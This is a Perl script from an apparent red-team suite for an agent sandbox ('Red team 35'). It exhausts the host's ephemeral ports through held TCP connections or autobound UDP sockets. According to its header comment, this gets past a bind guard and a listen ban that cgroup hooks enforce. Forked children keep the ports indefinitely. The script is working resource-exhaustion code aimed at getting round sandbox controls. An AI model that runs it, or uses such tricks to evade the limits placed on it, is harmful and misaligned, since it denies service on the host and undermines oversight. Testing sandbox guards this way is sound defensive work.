#!/usr/bin/perl
# Red team 35 (--net host, under the bind guard AND the listen ban of 5f1b4bb): the two paths
# to an ephemeral port that remain open to the agent, neither of which runs a cgroup hook:
#
#   tcp <port>  connect(2) on unbound sockets to 127.0.0.1:<port>. Every connection to ONE
#               destination needs a source port of its own (the 4-tuple must be unique), so
#               ~28,000 of them take every port of ip_local_port_range. A socket the server
#               closes (auth timeout, "maximum connections exceeded") sits in CLOSE_WAIT and
#               keeps its port as long as the agent keeps the descriptor. A port held by such a
#               socket (no SO_REUSEADDR) also fails every bind(port 0) on the host.
#   udp         sendto(2) on unbound UDP sockets (datagram sockets are allowed on --net host):
#               each is given a UDP port of its own by autobind, no bind hook runs.
#
# Usage: perl connfill.pl <out dir> tcp <port> | udp
# Writes held.<k> per child and "full" (the total) beside connfill.log; the children then keep
# every port they hold, replacing any socket that dies (reset, timed out), forever.
use strict;
use warnings;
use Socket qw(PF_INET SOCK_STREAM SOCK_DGRAM SOL_SOCKET SO_ERROR inet_aton pack_sockaddr_in
  unpack_sockaddr_in);
use IO::Handle;
use Fcntl qw(F_GETFL F_SETFL O_NONBLOCK);
use POSIX qw(:errno_h);
use Time::HiRes qw(time sleep);

my ($out, $mode, $target) = @ARGV;
$target //= 9;
open(my $L, '>>', "$out/connfill.log") or die "log: $!";
$L->autoflush(1);
sub say { my $m = shift; printf $L "%.3f %s\n", time, $m; }
say("started mode=$mode target=$target");

# The guards this runs under (their refusal is the proof the attack runs past them).
{
  socket(my $b, PF_INET, SOCK_STREAM, 0) or die;
  if (bind($b, pack_sockaddr_in(0, inet_aton('127.0.0.1')))) { say("bind allowed"); }
  else { say("bind refused: $!"); }
  close $b;
  socket(my $l, PF_INET, SOCK_STREAM, 0) or die;
  if (listen($l, 5)) { say("listen allowed"); }
  else { say("listen refused: $!"); }
  close $l;
}

my $dest = pack_sockaddr_in($target, inet_aton('127.0.0.1'));

sub one {
  if ($mode eq 'udp') {
    socket(my $fh, PF_INET, SOCK_DGRAM, 0) or return (undef, "socket: $!");
    if (!defined send($fh, "x", 0, $dest)) { my $e = "$!"; close $fh; return (undef, $e); }
    return ($fh, '');
  }
  socket(my $fh, PF_INET, SOCK_STREAM, 0) or return (undef, "socket: $!");
  my $fl = fcntl($fh, F_GETFL, 0);
  fcntl($fh, F_SETFL, $fl | O_NONBLOCK);
  if (!connect($fh, $dest) && $! != EINPROGRESS) { my $e = "$!"; close $fh; return (undef, $e); }
  return ($fh, '');
}

my @kids;
my $QUOTA = 3900;
for my $k (0 .. 7) {
  my $pid = fork();
  die "fork: $!" unless defined $pid;
  if ($pid == 0) {
    my @held;
    my $why = '';
    my $fails = 0;
    my $lastCheck = time;
    my $reported = 0;
    for (;;) {
      if (@held < $QUOTA && (!$reported || $fails < 40)) {
        my ($fh, $e) = one();
        if ($fh) { push @held, $fh; $fails = 0; }
        else { $why = $e; $fails++; sleep 0.05; }
      } else {
        sleep 0.5;
      }
      if (!$reported && (@held >= $QUOTA || $fails >= 40)) {
        open(my $o, '>', "$out/held.$k.tmp") or die;
        print $o scalar(@held) . " $why\n";
        close $o;
        rename("$out/held.$k.tmp", "$out/held.$k");
        $reported = 1;
        $fails = 0;
      }
      # Keep the range: a socket the peer reset or that timed out let its port go; replace it.
      if ($mode eq 'tcp' && time - $lastCheck > 3) {
        $lastCheck = time;
        my @keep;
        for my $fh (@held) {
          my $err = unpack('i', getsockopt($fh, SOL_SOCKET, SO_ERROR) // pack('i', 0));
          if ($err) { close $fh; next; }
          push @keep, $fh;
        }
        @held = @keep;
      }
    }
    exit 0;
  }
  push @kids, $pid;
  sleep 0.3;
}
my $total = 0;
for my $k (0 .. 7) {
  sleep 0.05 until -e "$out/held.$k";
  open(my $i, '<', "$out/held.$k") or die;
  my $l = <$i>;
  chomp $l;
  say("child $k: $l");
  $total += (split(/ /, $l))[0];
}
say("full: $total ports held");
open(my $F, '>', "$out/full") or die;
print $F "$total\n";
close $F;
sleep 100000 while 1;
